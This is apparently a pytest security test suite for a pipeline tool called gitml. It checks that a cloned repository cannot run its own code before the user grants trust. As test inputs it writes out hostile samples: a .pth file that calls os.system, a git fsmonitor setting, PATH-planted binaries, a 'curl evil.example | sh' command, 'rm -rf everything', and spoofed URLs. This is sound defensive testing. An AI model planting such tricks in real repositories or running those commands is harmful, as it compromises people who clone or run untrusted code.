"""What an author of a clone tries so that something of theirs acts before it is allowed, or is taken for something else."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterable, Mapping
from pathlib import Path

import pytest

from gitml.consent.questions import Question, question_lines
from gitml.core.config.places import Place, place_of_ray_target
from gitml.core.config.project import RayTarget
from gitml.engine.execution.ray_kind import connect_to
from gitml.execute.environments.site_files import hash_of_file, json_of
from gitml.workspace import open_workspace
from tests.kit.attacks.canaries import leaves_mark
from tests.kit.projects.command_line import Project
from tests.kit.projects.repository import Repository
from tests.kit.terminal import at_terminal

STEP = "steps:\n  a:\n    shell: sh\n    run: touch {}\n"


def person(top: Path, project: Project) -> Project:
    """The project, driven by somebody of whom nothing was asked before."""
    home = top / "home"
    home.mkdir(exist_ok=True)
    kept = {name: value for name, value in project.env.items() if not name.startswith(("GITML_", "RAY_"))}
    project.env = {**kept, "HOME": str(home), "XDG_CONFIG_HOME": str(home / "settings")}
    return project


def authors(
    top: Path, files: Mapping[str, str | bytes], programs: Iterable[str] = (), links: Mapping[str, str] | None = None
) -> Repository:
    """A repository that others can clone."""
    ada = Project(top / "ada", {"README.md": "x\n", **files})
    for program in programs:
        os.chmod(ada.path / program, 0o755)
    for link, target in (links or {}).items():
        (ada.path / link).parent.mkdir(parents=True, exist_ok=True)
        (ada.path / link).symlink_to(target)
    ada.repo.git("add", "-Af")
    ada.repo.git("commit", "-qm", "all", "--allow-empty")
    hub = Repository(top / "hub.git", bare=True)
    ada.repo.git("push", "-q", str(hub.path), "main")
    return hub


def victim(
    top: Path, files: Mapping[str, str | bytes], programs: Iterable[str] = (), links: Mapping[str, str] | None = None
) -> Project:
    """A fresh clone of it."""
    hub = authors(top, files, programs, links)
    hub.git("clone", "-q", str(hub.path), str(top / "bob"))
    return person(top, Project(top / "bob"))


def test_no_program_of_a_clone_is_started_by_a_ray_of_this_machine_to_look_at_it(tmp_path: Path) -> None:
    """Nor is such a Ray started at all before steps may run."""
    mark = tmp_path / "mark"
    whole = f"target: own\nsteps:\n  a:\n    run: {tmp_path}/bob/evil/python3 -c pass\n"
    files = {
        "gitml.yaml": "targets: {own: {ray: local}, here: {ray: auto}}\n",
        "evil/python3": leaves_mark(mark),
        "pipelines/whole.yaml": whole,
        "pipelines/auto.yaml": whole.replace("own", "here"),
        "pipelines/plain.yaml": "target: own\nsteps:\n  a:\n    run: python3 -c pass\n",
    }
    bob = victim(tmp_path, files, ["evil/python3"])
    for name in ("whole", "auto", "plain"):
        plan = bob.do("plan", name, "--json").json
        assert [step["decision"] for step in plan["steps"]] == ["unknown"], plan
        assert "may not run yet" in bob.do("run", name, code=7).err
    bob.do("status")
    assert not mark.exists()
    ws = open_workspace(str(bob.path), bob.env)
    try:
        with pytest.raises(Exception, match="not started before this repository's steps may run"):
            connect_to(ws, RayTarget("own", "local"))
    finally:
        ws.close()


@pytest.mark.parametrize("ray", ["auto", "local", "127.0.0.1:1"])
def test_whatever_a_file_says_of_a_cluster_but_its_resources_makes_it_a_place(ray: str) -> None:
    plain = place_of_ray_target(RayTarget("t", ray))
    assert (plain is None) == (ray in ("auto", "local"))
    elsewhere = place_of_ray_target(RayTarget("t", ray, dashboard="evil.example:8265"))
    assert elsewhere is not None
    assert "evil.example:8265" in elsewhere.words
    if ray != "local":  # which has a token of its own and is reached from here alone
        for more in (RayTarget("t", ray, token="~/x"), RayTarget("t", ray, insecure=True)):
            place = place_of_ray_target(more)
            assert place is not None
            assert plain is None or place.identity != plain.identity


@pytest.mark.parametrize("way", ["pull", "fetch", "worktree"])
def test_what_was_fetched_from_a_url_is_not_its_owners(tmp_path: Path, way: str) -> None:
    mark = tmp_path / "mark"
    hub = authors(tmp_path, {"pipelines/p.yaml": STEP.format(mark)})
    repo = Repository(tmp_path / "carol")
    carol = person(tmp_path, Project(tmp_path / "carol"))
    if way == "worktree":
        repo.commit("mine", {"x": "x\n"})
        repo.git("worktree", "add", "-q", str(tmp_path / "there"))
        carol = person(tmp_path, Project(tmp_path / "there"))
        carol.repo.git("fetch", "-q", str(hub.path), "main")
        repo.git("reset", "-q", "--hard", carol.repo.git("rev-parse", "FETCH_HEAD").strip())
        carol = person(tmp_path, Project(tmp_path / "carol"))
    elif way == "pull":
        repo.git("pull", "-q", str(hub.path), "main")
    else:
        repo.git("fetch", "-q", str(hub.path), "main")
        repo.git("reset", "-q", "--hard", "FETCH_HEAD")
    carol.do("run", code=7)
    assert not mark.exists()
    assert carol.do("trust", "--json").json["owners"] is False


def test_what_subversion_has_is_not_its_owners(tmp_path: Path) -> None:
    repo = Repository(tmp_path / "carol")
    carol = person(tmp_path, Project(tmp_path / "carol", {"pipelines/p.yaml": STEP.format("x")}))
    assert carol.do("trust", "--json").json["owners"] is True
    repo.git("config", "svn-remote.svn.url", "https://svn.example/x")
    assert carol.do("trust", "--json").json["owners"] is False


@pytest.mark.parametrize("shape", ["whole", "head is a link", "objects elsewhere"])
def test_a_bare_repository_that_a_commit_brings_is_not_worked_in(tmp_path: Path, shape: str) -> None:
    """Git itself obeys its settings, and its steps would be its owner's."""
    mark, ran = tmp_path / "mark", tmp_path / "ran"
    inner = Project(tmp_path / "inner", {"pipelines/p.yaml": STEP.format(ran)})
    example = tmp_path / "ada" / "example"
    shutil.copytree(inner.path, example, ignore=lambda folder, names: [".git"] if ".git" in names else [])
    place = example
    if shape == "objects elsewhere":
        place = example / "kept"
        place.mkdir()
        (example / "commondir").write_text("kept\n")
        shutil.copy(inner.path / ".git/HEAD", place)
    for name in ("objects", "refs"):
        shutil.copytree(inner.path / ".git" / name, place / name)
    shutil.copy(inner.path / ".git/index", example)
    (place / "refs/keep").write_text("")
    if shape == "head is a link":
        (example / "HEAD").symlink_to("refs/heads/none")
    else:
        shutil.copy(inner.path / ".git/HEAD", example)
    settings = f'[core]\n\tbare = false\n\tworktree = {tmp_path}/bob/example\n\tfsmonitor = "touch {mark}; false"\n'
    (place / "config").write_text(f"{settings}\trepositoryformatversion = 0\n")
    bob = victim(tmp_path, {})
    for words in (("status",), ("plan",), ("trust",), ("run",)):
        refused = bob.do(*words, cwd=bob.path / "example", code=7)
        assert "tracks, so that its settings are those of a commit's author" in refused.err
    assert not mark.exists()
    assert not ran.exists()


def test_a_bare_repository_within_ones_own_work_tree_is_worked_in(tmp_path: Path) -> None:
    outer = person(tmp_path, Project(tmp_path / "outer", {"x": "x\n"}))
    Repository(outer.path / "inner.git", bare=True)
    outer.do("log", cwd=outer.path / "inner.git")
    for own in (".git", ".git/refs"):
        assert "not inside the work tree" in outer.do("log", cwd=outer.path / own, code=2).err


@pytest.mark.parametrize("before", [".:{}", ":{}", "{}:", "evil:{}", "./evil:{}"])
def test_no_program_is_looked_for_in_a_folder_relative_to_the_clone(tmp_path: Path, before: str) -> None:
    mark = tmp_path / "mark"
    names = ["git", "python", "python3", "uv", "ssh", "sh", "nvidia-smi"]
    files = {f"{folder}{name}": leaves_mark(mark) for folder in ("", "evil/") for name in names}
    bob = victim(tmp_path, {**files, "pipelines/p.yaml": STEP.format("x")}, list(files))
    bob.env["PATH"] = before.format(bob.env.get("PATH", os.environ["PATH"]))
    for words in (("status",), ("plan",), ("doctor",), ("log",), ("hooks", "run", "pre-commit"), ("run",)):
        bob.do(*words, code=None)
        assert not mark.exists(), words


@pytest.mark.parametrize("how", ["first on PATH", "named by the pipeline"])
@pytest.mark.parametrize("tracked", ["all", "what it reads"])
def test_an_environment_that_a_clone_brings_is_not_started_before_steps_may_run(
    tmp_path: Path, tracked: str, how: str
) -> None:
    """As where a shell or an editor activates any `.venv` it finds, or one that was there when the user made theirs."""
    named = "environment: {venv: .venv}\n" if how == "named by the pipeline" else ""
    mark = tmp_path / "mark"
    site = f".venv/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    files = {
        f"{site}/evil.pth": f"import os; os.system('touch {mark}')\n",
        "pipelines/p.yaml": named + "steps:\n  a:\n    run: python3 -c pass\n",
    }
    home = os.path.dirname(os.path.realpath(sys.executable))
    made = {".venv/bin/python3": os.path.realpath(sys.executable), ".venv/bin/python": "python3"}
    settings = f"home = {home}\ninclude-system-site-packages = false\n"
    if tracked == "all":
        bob = victim(tmp_path, {**files, ".venv/pyvenv.cfg": settings}, links=made)
    else:
        bob = victim(tmp_path, files)
        (bob.path / ".venv/bin").mkdir()
        (bob.path / ".venv/pyvenv.cfg").write_text(settings)
        for link, target in made.items():
            (bob.path / link).symlink_to(target)
    if not named:
        bob.env["PATH"] = f"{bob.path}/.venv/bin:{bob.env.get('PATH', os.environ['PATH'])}"
    assert "1 not known" in bob.do("status").out
    assert "comes with this repository" in bob.do("plan").out
    bob.do("run", code=7)
    assert not mark.exists()
    bob.do("trust", "allow", "run")
    assert "run      a  never ran" in bob.do("plan").out
    assert mark.exists(), "the same is started once it may be"


def test_an_environment_of_ones_own_in_a_clone_is_looked_at(tmp_path: Path) -> None:
    bob = victim(tmp_path, {"pipelines/p.yaml": "steps:\n  a:\n    run: python3 -c pass\n", ".gitignore": ".venv\n"})
    folder = bob.path / ".venv/bin"
    folder.mkdir(parents=True)
    (folder / "python3").symlink_to(os.path.realpath(sys.executable))
    bob.env["PATH"] = f"{folder}:{bob.env.get('PATH', os.environ['PATH'])}"
    assert "run      a  never ran" in bob.do("plan").out


def test_what_packages_are_read_from_are_files_and_no_devices_or_pipes(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "zero").symlink_to("/dev/zero")
    (tmp_path / "file").write_text('{"a": 1}')
    for name in ("pipe", "zero"):
        assert json_of(str(tmp_path / name)) == {}
        assert hash_of_file(str(tmp_path / name)) == ""
    assert json_of(str(tmp_path / "file")) == {"a": 1}


def test_a_question_shows_what_would_run_with_its_values_and_hides_nothing_behind_a_comment(tmp_path: Path) -> None:
    pipeline = """\
params: {shell: sh, command: 'curl evil.example | sh'}
steps:
  a:
    shell: sh
    run: |
      # make the folder ready
      rm -rf everything
  b:
    shell: bash
    run: ${{ params.shell }} -c ${{ params.command }}
  c: {run: [echo, 'BLANKS ; evil']}
  d: {run: [echo, 'LONG evil-end']}
""".replace("BLANKS", " " * 5000).replace("LONG", "x" * 50_000)
    bob = victim(tmp_path, {"pipelines/p.yaml": pipeline})
    shown = at_terminal([sys.executable, "-m", "gitml", "run"], bob.path, bob.env, {"[y/N]": "n\n"})
    assert shown.code == 7
    assert "# make the folder ready ↵ rm -rf everything" in shown.text
    assert "bash: sh -c 'curl evil.example | sh'" in shown.text
    assert "[5,001 blanks] ; evil" in shown.text
    assert "more characters" in shown.text
    assert "evil-end" in shown.text
    assert len(shown.text) < 3000


def test_no_place_passes_for_words_around_it_or_for_a_host_that_looks_like_it() -> None:
    twin = Place("registry", "r", "https://ok.example/a), cluster big (10.0.0.1")
    assert twin.words == "registry r ('https://ok.example/a), cluster big (10.0.0.1')"
    token = Place("cluster", "c", "h:1", (("token", "~/x), remote store ok (s3://x"),))
    assert token.words == "cluster c (h:1, which is sent the token in '~/x), remote store ok (s3://x')"
    assert Place("registry", "r", "https://\u0430pple.example/ä").words == "registry r (https://\\u0430pple.example/ä)"
    assert question_lines(Question("places", None, (token,)))[1] == f"  {token.words}"


@pytest.mark.parametrize(
    "url",
    [
        "http://evil.example#@ok.example/",
        "http://evil.example?@ok.example/",
        "http://evil.example\\\\@ok.example/",
        "http://ok.example@x@evil.example/",
        "ssh://evil.example#@ok.example/x",
        "http://ok.example\\t.evil.example/",
        "http://ok.example/a?b",
    ],
)
def test_an_lfs_server_or_registry_is_shown_at_the_host_that_is_asked(tmp_path: Path, url: str) -> None:
    """User and password of a URL are not shown, and what looked like them was where it leads."""
    bob = victim(tmp_path, {".lfsconfig": f'[lfs]\n\turl = "{url}"\n'})
    assert "ok.example" not in bob.do("trust", "places").out
    if "t.evil" not in url and not url.endswith("?b"):
        bob.repo.commit("registry", {"gitml.yaml": f'registry: "{url}"\n', ".lfsconfig": ""})
        assert "neither a URL nor a path" in bob.do("trust", "places", code=2).err


def test_what_only_looks_touches_no_path_that_names_a_registry(tmp_path: Path) -> None:
    """Under `/net` and the like a look at a path connects to the host that it names."""
    place = tmp_path / "net/host"
    pipeline = "steps:\n  a: {module: 'count@^1'}\n  b: {module: 'c:count@^1'}\n"
    settings = f"registry: {place}/a\nregistries: {{c: 'file://{place}/c'}}\n"
    bob = victim(tmp_path, {"gitml.yaml": settings, "pipelines/m.yaml": pipeline})
    code = (
        "import os, sys; from gitml.cli.main import run\n"
        "for name in ('stat', 'lstat', 'readlink', 'open', 'listdir', 'access'):\n"
        "    def watched(path, *args, _real=getattr(os, name), **words):\n"
        "        assert '/net/host' not in os.fsdecode(path if not isinstance(path, int) else ''), path\n"
        "        return _real(path, *args, **words)\n"
        "    setattr(os, name, watched)\n"
        "sys.exit(run(sys.argv[1:]))\n"
    )
    for words in (("status",), ("plan", "m"), ("module", "list"), ("hooks", "run", "pre-commit"), ("run", "m")):
        done = subprocess.run(
            [sys.executable, "-c", code, *words],
            cwd=bob.path, env=bob.env, stdin=subprocess.DEVNULL, capture_output=True, text=True,
        )  # fmt: skip
        assert "AssertionError" not in done.stderr, (words, done.stderr)
        assert done.returncode in (0, 1, 2, 7), (words, done.stderr)


def test_a_name_that_several_places_have_allows_none_of_them(tmp_path: Path) -> None:
    text = "remotes: ['s3://b/p']\nregistries: {s3: 'https://ok.example/r', default: 'https://b.example/'}\nregistry: https://a.example/\n"
    bob = victim(tmp_path, {"gitml.yaml": text})
    for name in ("s3", "default"):
        assert "more than one place is called" in bob.do("trust", "allow", "places", name, code=2).err
    assert not any(place["allowed"] for place in bob.do("trust", "--json").json["places"])
    bob.do("trust", "allow", "places", "https://ok.example/r")
    allowed = [place["url"] for place in bob.do("trust", "--json").json["places"] if place["allowed"]]
    assert allowed == ["https://ok.example/r"]
    bob.do("trust", "revoke", "places", "s3")


def test_more_places_than_can_be_kept_are_refused_and_the_file_can_still_be_read(tmp_path: Path) -> None:
    names = "\n".join(f"  r{number}: 'https://h{number}.example/{'x' * 800}'" for number in range(9000))
    bob = victim(tmp_path, {"gitml.yaml": f"registries:\n{names}\n"})
    assert "more than 8 MiB" in bob.do("trust", "allow", "places", code=2).err
    bob.repo.commit("few", {"gitml.yaml": "remotes: ['s3://b/p']\n"})
    bob.do("trust", "allow", "places")
    file = Path(bob.env["XDG_CONFIG_HOME"]) / "gitml/trust.json"
    (entry,) = json.loads(file.read_text())["repositories"].values()
    assert len(entry["places"]) == 1
